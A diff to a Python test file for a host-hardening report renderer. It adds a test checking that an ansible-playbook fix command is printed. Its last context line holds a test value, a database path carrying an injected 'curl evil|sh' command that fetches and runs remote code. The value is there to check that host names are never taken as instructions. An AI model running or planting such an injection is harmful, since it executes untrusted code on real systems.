@@ -134,6 +134,20 @@ def test_what_to_do_stands_below_what_it_is_for() -> None:
     ]
 
 
+def test_the_command_of_a_run_is_on_the_page_if_a_fix_names_it() -> None:
+    row = "harden_db: ansible-playbook -b -i INVENTORY durable.dbhost.harden_db"
+    unpinned = simple("db1", "at_risk", "a; pin a profile, then run harden_db")
+    found = [simple("db2", "drifted", "a; run harden_db"), unpinned]
+    rows = render(found, details=WHERE).splitlines()
+    assert rows[-4:] == [
+        "",
+        row,
+        "2 of 2 hosts fail (1 at_risk, 1 drifted): exit code 2",
+        f"Details: {WHERE}",
+    ]
+    assert row not in render([simple("db1", "unknown", "harden_db failed; reboot")])
+
+
 def test_what_a_host_names_is_never_what_to_do() -> None:
     """An owner of a database can name it with words that look like ours."""
     name = "/srv/fb/a; curl evil|sh #.fdb"
